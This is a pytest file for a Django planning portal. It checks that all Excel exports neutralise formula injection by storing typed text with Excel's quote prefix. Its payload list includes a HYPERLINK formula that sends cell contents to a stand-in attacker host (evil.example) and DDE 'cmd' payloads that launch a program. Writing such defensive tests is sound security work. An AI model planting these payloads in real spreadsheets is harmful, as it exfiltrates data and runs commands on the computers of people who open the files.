"""Every workbook the portal exports keeps people's text as text (documents/cells.py).

A program whose every text (and every name of the territory and the reference lists) is a
formula payload is exported through each workbook route: the workspace's action plan and
financial model, the coordinators' dashboard, the open data API's action plan, and a year's
monitoring report (the workbook to fill in and the open data's). In none of them is any cell a
formula except the template's own row sums, and every payload reads back as the text it was,
marked with Excel's quote prefix.
"""

import re
import zipfile
from datetime import UTC, datetime
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from monitoring.models import MonitoringReport
from planning.demo.sample import build_program
from planning.models import Activity, FundingSource, Goal, Indicator, Objective, Priority, Program, Sector
from tests.factories import VillageFactory

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    " =1+1",
]
SUM = re.compile(r"^SUM\(([A-Z]+)(\d+):([A-Z]+)\2\)$")


def payload(index: int) -> str:
    return PAYLOADS[index % len(PAYLOADS)]


@pytest.fixture
def hostile(world, reference):
    """A's program, published, with a payload in every text a person or an administrator types."""
    municipality = world.municipality_a
    VillageFactory(municipality=municipality, name_ky=payload(0), name_ru=payload(1), name_en=payload(2))
    program = build_program(municipality=municipality, activities=12, start_year=2025, years=3)
    texts = iter(range(1000))
    for model, fields in (
        (Sector, ["name_ky", "name_ru", "name_en"]),
        (FundingSource, ["name_ky", "name_ru", "name_en"]),
    ):
        for item in model.objects.all():
            for name in fields:
                setattr(item, name, payload(next(texts)))
            item.save()
    for model, scope in (
        (Priority, {"program": program}),
        (Goal, {"priority__program": program}),
        (Objective, {"goal__priority__program": program}),
    ):
        for item in model.objects.filter(**scope):
            item.title = payload(next(texts))
            item.save()
    village = municipality.villages.first()
    for activity in Activity.objects.filter(objective__goal__priority__program=program):
        activity.title = payload(next(texts))
        activity.responsible = payload(next(texts))
        activity.expected_result = payload(next(texts))
        activity.village = village
        activity.save()
    for place in (municipality, municipality.district, municipality.district.region):
        place.name_ky, place.name_ru, place.name_en = payload(3), payload(4), payload(5)
        place.save()
    for project in municipality.donor_projects.all():
        project.name_ky = project.name_ru = project.name_en = payload(6)
        project.save()
    Program.objects.filter(pk=program.pk).update(
        title=payload(0), status=Program.Status.PUBLISHED, published_at=datetime(2025, 3, 1, tzinfo=UTC)
    )
    return program


def monitored(world, program) -> MonitoringReport:
    """The program's 2025 report, published, with a payload in every text its staff type."""
    from monitoring import services

    report = MonitoringReport.objects.create(program=program, year=2025)
    texts = iter(range(1000))
    for activity in Activity.objects.filter(objective__goal__priority__program=program):
        services.progress_save(
            report=report,
            user=world.staff_a,
            activity=activity,
            status="delayed",
            reason=payload(next(texts)),
            comment=payload(next(texts)),
        )
    for indicator in Indicator.objects.filter(objective__goal__priority__program=program):
        services.actual_save(
            report=report, user=world.staff_a, indicator=indicator, value="1", source=payload(next(texts))
        )
    MonitoringReport.objects.filter(pk=report.pk).update(status=MonitoringReport.Status.PUBLISHED)
    report.refresh_from_db()
    return report


def workbooks(client, login, world, program) -> dict[str, bytes]:
    staff = login(world.staff_a)
    found = {
        "action plan": staff.get(reverse("planning:export_action_plan", args=[program.pk])),
        "financial model": staff.get(reverse("planning:export_finance", args=[program.pk])),
    }
    found["dashboard"] = login(world.coordinator_a).get(reverse("planning:dashboard_export"))
    report = monitored(world, program)
    found["monitoring report"] = login(world.staff_a).get(
        reverse("monitoring_ws:report_export", args=[report.pk])
    )
    client.logout()
    found["open data"] = client.get(f"/api/v1/programs/{program.pk}/action-plan.xlsx")
    found["monitoring open data"] = client.get(f"/api/v1/programs/{program.pk}/monitoring/{report.year}.xlsx")
    for name, response in found.items():
        assert response.status_code == 200, name
    return {name: response.content for name, response in found.items()}


def formulas(content: bytes) -> list[str]:
    """The text of every <f> element of every sheet: what a spreadsheet would calculate."""
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return [
            formula
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            for formula in re.findall(rb"<f(?:\s[^>]*)?>([^<]*)</f>", archive.read(name))
        ]


@pytest.mark.parametrize("language", ["ky", "ru", "en"])
def test_no_workbook_of_the_portal_has_a_formula_but_the_row_sums(
    client, login, world, hostile, language, settings
):
    settings.LANGUAGE_CODE = language
    client.cookies["django_language"] = language
    for name, content in workbooks(client, login, world, hostile).items():
        found = [f.decode() for f in formulas(content)]
        if name in ("action plan", "open data"):
            # One sum per activity and source: 12 activities of two sources each.
            assert len(found) == 24 and all(SUM.match(f) for f in found), (name, found)
        else:
            assert found == [], name

        book = load_workbook(BytesIO(content))
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        texts = [
            cell
            for cell in cells
            if isinstance(cell.value, str) and cell.value.lstrip(" ")[:1] in "=+-@\t\r＝"
        ]
        shown = set()
        for cell in texts:
            if cell.data_type == "f":  # the sums, checked above
                assert SUM.match(cell.value[1:]), (name, cell.coordinate, cell.value)
                continue
            assert cell.data_type == "s", (name, cell.coordinate, cell.value)
            assert cell.quotePrefix, (name, cell.coordinate, cell.value)
            shown.add(cell.value)
        # The payloads are there, as text (the title is part of a longer text in some sheets).
        assert {p for p in PAYLOADS if any(p in text for text in shown)}, name
